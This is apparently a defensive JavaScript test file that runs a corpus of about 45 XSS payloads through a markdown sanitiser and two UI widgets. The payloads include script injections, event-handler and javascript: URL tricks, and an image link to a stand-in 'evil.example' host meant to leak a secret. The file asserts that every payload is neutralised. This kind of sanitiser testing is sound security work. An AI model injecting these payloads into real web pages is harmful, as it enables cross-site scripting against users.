// XSS corpus: every payload in every content position of both widgets. Scripts are enabled in this
// jsdom window, so anything that slipped through as markup or as an event handler would set the canary.
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { mount, ready, win } from "./setup.js";
import * as inspector from "../src/inspector.js";
import { markdown } from "../src/markdown.js";
import * as transcript from "../src/transcript.js";

const C = "window.__piPwned=1";
export const PAYLOADS = [
  `<script>${C}</script>`,
  `<img src=x onerror="${C}">`,
  `<IMG SRC=x OnErRoR=${C}>`,
  `<svg onload="${C}"></svg>`,
  `<svg><script>${C}</script></svg>`,
  `<svg><a xlink:href="javascript:${C}"><text x="0" y="10">svg link</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${C}">`,
  `<math href="javascript:${C}">math</math>`,
  `<iframe srcdoc="<script>parent.__piPwned=1</script>"></iframe>`,
  `<iframe src="javascript:${C}"></iframe>`,
  `<a href="javascript:${C}">js link</a>`,
  `<a href="JaVaScRiPt:${C}">mixed case</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${C}">entities</a>`,
  `<a href="jav&#x09;ascript:${C}">tab</a>`,
  `<a href=" \u0001javascript:${C}">control char</a>`,
  `<a href="\\u006aavascript:${C}">backslash-u</a>`,
  `<a href="data:text/html,<script>parent.__piPwned=1</script>">data html</a>`,
  `<a href="https://example.com/" onclick="${C}">ok link with handler</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${C}">`,
  `<div style="background:url(javascript:${C})">css url</div>`,
  `<div style="width: expression(${C})">css expression</div>`,
  `<style>@import 'javascript:${C}'; * { background: url("javascript:${C}") }</style>`,
  `<object data="javascript:${C}"></object>`,
  `<embed src="javascript:${C}">`,
  `<form action="javascript:${C}"><button formaction="javascript:${C}">go</button></form>`,
  `<details open ontoggle="${C}"><summary>t</summary></details>`,
  `<body onload="${C}">`,
  `<input autofocus onfocus="${C}">`,
  `<video><source onerror="${C}"></video>`,
  `<noscript><p title="</noscript><img src=x onerror=${C}>">`,
  `<template><script>${C}</script></template>`,
  `<base href="javascript:/"><link rel=stylesheet href="javascript:${C}">`,
  `"><script>${C}</script><x y="`,
  `'><img src=x onerror=${C}>`,
  `[md link](javascript:${C})`,
  `[md data link](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19waVB3bmVkPTE8L3NjcmlwdD4=)`,
  `![md image](javascript:${C})`,
  `![md image attr](x" onerror="${C})`,
  `[a](<javascript:${C}>)`,
  `<https://ok.example/"onmouseover="${C}">`,
  "```html\n<script>window.__piPwned=1</script>\n```",
  `<div class="pi-badge pi-badge-ui" id="spoof">not sent to the LLM</div>`,
  `<img src="https://evil.example/leak.png?secret=1">`,
  `\u003cscript\u003e${C}\u003c/script\u003e`,
  `\x1b[31m<img src=x onerror=${C}>\x1b[0m\x1b]8;;javascript:${C}\x07osc link\x1b]8;;\x07`,
];

const URL_ATTRS = ["href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcdoc", "ping"];
const EVENTS = ["load", "error", "click", "mouseover", "focus", "toggle", "animationstart", "submit"];

function assertSafe(root, label) {
  for (const tag of ["script", "iframe", "object", "embed", "frame", "form", "meta", "link", "base", "style", "svg", "math", "template", "noscript", "video", "source"]) {
    assert.equal(root.querySelector(tag), null, `${label}: <${tag}> in the DOM`);
  }
  for (const el of root.querySelectorAll("*")) {
    for (const attr of el.attributes) {
      assert.doesNotMatch(attr.name, /^on/i, `${label}: event handler attribute ${attr.name} on <${el.tagName}>`);
      if (URL_ATTRS.includes(attr.name.toLowerCase())) {
        const v = attr.value.replace(/[\s\u0000-\u001f]/g, "");
        assert.doesNotMatch(v, /^(?:javascript|vbscript|data:text)/i, `${label}: ${attr.name}=${attr.value}`);
      }
      if (attr.name === "style") assert.doesNotMatch(attr.value, /url\(|javascript|expression/i, `${label}: style`);
    }
    if (el.hasAttribute("href")) assert.match(el.getAttribute("href"), /^(?:https?:|mailto:|#pi)/i, `${label}: href`);
    if (el.hasAttribute("src")) {
      assert.match(el.getAttribute("src"), /^data:image\/(?:png|jpeg|gif|webp);base64,/, `${label}: src`);
    }
  }
  for (const input of root.querySelectorAll("input, button, select, textarea")) {
    assert.ok(input.closest(".pi-hidden-toggle, .pi-insp-controls, .pi-pane-head, .pi-output, .pi-insp-head, .pi-whatif-controls, .pi-whatif-banner") || input.matches(".pi-show-more, .pi-diff-fold"), `${label}: content control <${input.tagName}>`);
  }
  // Nothing rendered from content may carry our own classes or ids (UI spoofing, clobbering).
  for (const el of root.querySelectorAll(".pi-md *")) {
    assert.equal(el.hasAttribute("class") && !el.matches(".pi-blocked-img"), false, `${label}: class inside markdown`);
    assert.equal(el.hasAttribute("id"), false, `${label}: id inside markdown`);
  }
}

async function fireEverything(root) {
  for (const el of root.querySelectorAll("*")) {
    for (const type of EVENTS) {
      if (type === "click" && el.matches("button.pi-copy")) continue; // clipboard side effects only
      el.dispatchEvent(new win.Event(type, { bubbles: false, cancelable: true }));
    }
  }
  await new Promise((r) => setTimeout(r, 20));
}

function transcriptMessages(p) {
  return [
    { role: "user", content: p, timestamp: 1 },
    { role: "user", content: [{ type: "text", text: p }, { type: "image", data: p, mimeType: p }], timestamp: 1 },
    {
      role: "assistant",
      content: [
        { type: "thinking", thinking: p, thinkingSignature: p },
        { type: "thinking", thinking: p, redacted: true, thinkingSignature: p },
        { type: "text", text: p, textSignature: p },
        { type: "toolCall", id: p, name: p, arguments: { command: p, multi: `${p}\n${p}` } },
        { type: p, text: p },
      ],
      api: p,
      provider: p,
      model: p,
      usage: { input: 1, output: 1, cacheRead: 0, cacheWrite: 0, totalTokens: 2, cost: { total: 0.5 } },
      stopReason: "error",
      errorMessage: p,
      timestamp: 1,
    },
    {
      role: "toolResult",
      toolCallId: p,
      toolName: p,
      content: [{ type: "text", text: p }, { type: "image", data: "AAAA", mimeType: p }],
      details: { p },
      isError: true,
      timestamp: 1,
    },
    { role: "bashExecution", command: p, output: p, exitCode: 1, cancelled: false, truncated: true, fullOutputPath: p, excludeFromContext: true, timestamp: 1 },
    { role: "custom", customType: p, content: p, display: false, details: p, timestamp: 1 },
    { role: "custom", customType: p, content: [{ type: "text", text: p }], display: true, timestamp: 1 },
    { role: "compactionSummary", summary: p, tokensBefore: p, timestamp: 1 },
    { role: "branchSummary", summary: p, fromId: p, timestamp: p },
    { role: p, [p]: p, timestamp: 1 },
    ...notebookCells(p),
  ];
}

/** notebookCell messages with `p` in every string field (an image's data and type too), and in a field's place. */
function notebookCells(p) {
  const png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";
  const images = [
    { type: "image", data: p, mimeType: p },
    { type: "image", data: png, mimeType: p },
    { type: "image", data: p, mimeType: "image/png" },
    { type: p, data: png, mimeType: "image/jpeg" },
  ];
  const error = { name: p, value: p, traceback: `${p}\n${p}` };
  return [
    { role: "notebookCell", source: p, executionCount: 1, output: p, images, error, cancelled: true, truncated: true,
      fullOutputPath: p, omitted: [p, p], timestamp: 1, excludeFromContext: true },
    { role: "notebookCell", source: `${p}\n${p}`, executionCount: p, output: `${p}\n`, images: p, error: p, omitted: p,
      fullOutputPath: p, truncated: p, timestamp: p },
  ];
}

describe("XSS corpus", () => {
  test(`has at least 20 payloads (${PAYLOADS.length})`, () => {
    assert.ok(PAYLOADS.length >= 20);
  });

  test("markdown(): no payload survives sanitising", async () => {
    const box = document.createElement("div");
    document.body.appendChild(box);
    for (const p of PAYLOADS) box.appendChild(markdown(p));
    assertSafe(box, "markdown()");
    await fireEverything(box);
    assert.equal(win.__piPwned, undefined);
    // links that are allowed open in a new tab without an opener
    for (const a of box.querySelectorAll("a[href]")) {
      assert.equal(a.getAttribute("target"), "_blank");
      assert.equal(a.getAttribute("rel"), "noopener noreferrer");
    }
    // remote images are not fetched: they become links
    assert.equal(box.querySelector('img[src^="https:"]'), null);
    assert.ok(box.querySelector('a.pi-blocked-img[href="https://evil.example/leak.png?secret=1"]'));
    box.remove();
  });

  test("transcript: every payload in every role and field", async () => {
    for (const p of PAYLOADS) {
      const messages = transcriptMessages(p);
      const { el, cleanup } = mount(transcript, {
        messages,
        visibility: messages.map(() => p),
        streaming: { ...messages[2], stopReason: "stop" },
        show_hidden: true,
        title: p,
        renderers: {},
      });
      await ready(el);
      // the notebook cells were drawn by their renderer (not its failure's JSON), the payload in each place
      const cells = el.querySelectorAll('article[data-role="notebookCell"]');
      assert.equal(cells.length, 2);
      assert.equal(el.querySelector('article[data-role="notebookCell"] .pi-renderer-error'), null);
      assert.ok(cells[0].querySelector(".pi-nbcell-error details") && cells[0].querySelector(".pi-nbcell-omitted li"));
      assert.equal(cells[0].querySelector(".pi-nbcell-evalue").textContent, p);
      assertSafe(el, `transcript ${JSON.stringify(p).slice(0, 60)}`);
      for (const b of el.querySelectorAll("button.pi-show-more")) b.click();
      await fireEverything(el);
      assert.equal(win.__piPwned, undefined, `canary set by ${p}`);
      cleanup();
      el.remove();
    }
  });

  test("inspector: every payload in rows, requests, provider and model name", async () => {
    for (const p of PAYLOADS) {
      const agent = { role: "user", content: p, timestamp: 1 };
      const row = { index: 0, role: p, status: p, reason: p, tokens: 1, agent, llm: [agent, { role: p, content: [{ type: "text", text: p }] }], produced_text: p };
      const [cellAgent] = notebookCells(p);
      const cellLlm = { role: "user", content: [{ type: "text", text: p }, ...cellAgent.images], timestamp: 1 };
      const cellRow = { index: 2, role: "notebookCell", status: "translated", reason: p, tokens: 1, agent: cellAgent, llm: [cellLlm], produced_text: p };
      const { el, cleanup } = mount(inspector, {
        rows: [row, { ...row, index: 1, status: "dropped", agent: null, llm: [] }, cellRow],
        requests: { [p]: { system: p, messages: [{ role: "user", content: p }] }, other: p },
        provider: p,
        context_window: p,
        total_tokens: p,
        model_name: p,
        notes: [p],
      });
      for (const r of el.querySelectorAll(".pi-insp-row")) r.dispatchEvent(new win.MouseEvent("click", { bubbles: true }));
      const search = el.querySelector("input.pi-search");
      search.value = p;
      search.dispatchEvent(new win.Event("input"));
      assertSafe(el, `inspector ${JSON.stringify(p).slice(0, 60)}`);
      await fireEverything(el);
      assert.equal(win.__piPwned, undefined, `canary set by ${p}`);
      cleanup();
      el.remove();
    }
  });

  test("inspector what-if preview, compare and compaction marks: every payload", async () => {
    for (const p of PAYLOADS) {
      const agent = { role: "bashExecution", command: p, output: p, exitCode: 0, timestamp: 1 };
      const llm = [{ role: "user", content: [{ type: "text", text: p }], timestamp: 1 }];
      const row = { index: 0, role: "bashExecution", status: "translated", reason: p, tokens: 1, agent, llm };
      const summary = { index: 1, role: "compactionSummary", status: "translated", reason: p, tokens: 1,
        agent: { role: "compactionSummary", summary: p, tokensBefore: 1 }, llm, covered: [agent, { role: p, content: p }] };
      const { el, model, cleanup } = mount(inspector, {
        rows: [row, summary],
        requests: { [p]: { messages: [{ role: "user", content: p }] }, other: { system: p } },
        provider: p,
        context_window: 100,
        total_tokens: 1,
        model_name: p,
        compaction: { threshold: 50, cut: 1, summarise: [0], enabled: true },
      });
      el.querySelector('[data-whatif="exclude"]').dispatchEvent(new win.MouseEvent("click", { bubbles: true }));
      const id = model.sent.at(-1).id;
      const after = { ...row, status: "dropped", reason: p, llm: [], whatIf: p, agent: { ...agent, command: `${p}\n${p}` } };
      model.emit("msg:custom", { pi: "what_if_result", id, ok: true, rows: [after, { ...summary, llm: [] }],
        requests: { [p]: { messages: [{ role: "user", content: `${p}!` }], extra: p }, other: p }, total_tokens: 0, notes: [p] });
      el.querySelector('[data-control="compare"]').dispatchEvent(new win.MouseEvent("click", { bubbles: true }));
      for (const d of el.querySelectorAll("details")) d.open = true;
      assertSafe(el, `what-if ${JSON.stringify(p).slice(0, 60)}`);
      await fireEverything(el);
      assert.equal(win.__piPwned, undefined, `canary set by ${p}`);
      model.emit("msg:custom", { pi: "what_if_result", id, ok: false, error: p });
      assertSafe(el, `what-if error ${JSON.stringify(p).slice(0, 60)}`);
      cleanup();
      el.remove();
    }
  });

  test("the canary works (a real handler would have set it)", () => {
    const probe = document.createElement("img");
    probe.setAttribute("onerror", "window.__piProbe=1");
    document.body.appendChild(probe);
    probe.dispatchEvent(new win.Event("error"));
    assert.equal(win.__piProbe, 1, "jsdom runs inline handlers, so the corpus checks are meaningful");
    probe.remove();
  });

  test("the checks catch unsanitised HTML (self-test of assertSafe and the canary)", async () => {
    const raw = document.createElement("div");
    document.body.appendChild(raw);
    raw.innerHTML = PAYLOADS[1] + PAYLOADS[10];
    assert.throws(() => assertSafe(raw, "raw"), /event handler attribute onerror/);
    await fireEverything(raw);
    assert.equal(win.__piPwned, 1);
    delete win.__piPwned;
    raw.remove();
  });
});
